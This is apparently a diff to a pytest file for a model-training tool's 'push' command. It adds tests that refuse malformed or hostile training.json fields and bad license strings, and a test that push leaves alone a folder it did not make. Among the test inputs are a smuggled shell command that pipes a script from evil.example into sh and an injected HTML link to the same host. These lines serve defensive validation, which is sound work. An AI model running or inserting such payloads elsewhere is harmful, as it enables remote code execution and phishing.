@@ -566,7 +566,19 @@ def test_train_checks_every_packed_row_as_the_validator_checks_a_record(data, tm
 
 @pytest.mark.parametrize(
     "field,value",
-    [("groups", [1, 2]), ("sources", "expert2f"), ("data", ["x"]), ("data_on_hub", "yes"), ("steps_done", [])],
+    [
+        ("groups", [1, 2]),
+        ("sources", "expert2f"),
+        ("data", ["x"]),
+        ("data_on_hub", "yes"),
+        ("steps_done", []),
+        # written into the card as they were (an outside review): a shell command in the card's own
+        # example, HTML, a new paragraph, NaN published as it stood
+        ("groups", ["Pong $(curl -s evil.example|sh)"]),
+        ("sources", ["expert2f\n\n<a href='https://evil.example'>weights</a>"]),
+        ("freeze", "none\n\n# Download here"),
+        ("minutes", float("nan")),
+    ],
 )
 def test_push_refuses_a_hand_edited_training_json_on_one_line(checkpoint, tmp_path, field, value):
     """groups [1, 2] was a TypeError out of the model card's join."""
@@ -580,6 +592,30 @@ def test_push_refuses_a_hand_edited_training_json_on_one_line(checkpoint, tmp_pa
         main, ["push", ckpt, "--repo", "me/x", "--dry-run", stage], sandbox=tmp_path, target=stage
     )
     assert code == 2 and "training.json" in err and field in err, err
+
+
+def test_push_never_removes_a_folder_it_did_not_make(checkpoint, tmp_path):
+    """A folder of the staging name beside the target, .stage.staging, was removed whole (rmtree)."""
+    mine = tmp_path / ".stage.staging"
+    mine.mkdir()
+    (mine / "notes.txt").write_text("precious\n")
+    stage = tmp_path / "stage"
+    code, err = check_promises(
+        main, ["push", checkpoint, "--repo", "me/x", "--dry-run", stage], sandbox=tmp_path, target=stage
+    )
+    assert code == 2 and ".stage.staging" in err and (mine / "notes.txt").read_text() == "precious\n", err
+
+
+@pytest.mark.parametrize("license", ["", "not a license <b>"])
+def test_push_refuses_a_license_the_card_cannot_carry(checkpoint, tmp_path, license):
+    stage = tmp_path / "stage"
+    code, err = check_promises(
+        main,
+        ["push", checkpoint, "--repo", "me/x", "--dry-run", stage, "--license", license],
+        sandbox=tmp_path,
+        target=stage,
+    )
+    assert code == 2 and "--license" in err, err
 
 
 def test_train_refuses_a_packed_parquet_dictionary_bomb_before_datasets_expands_it(data, tmp_path):
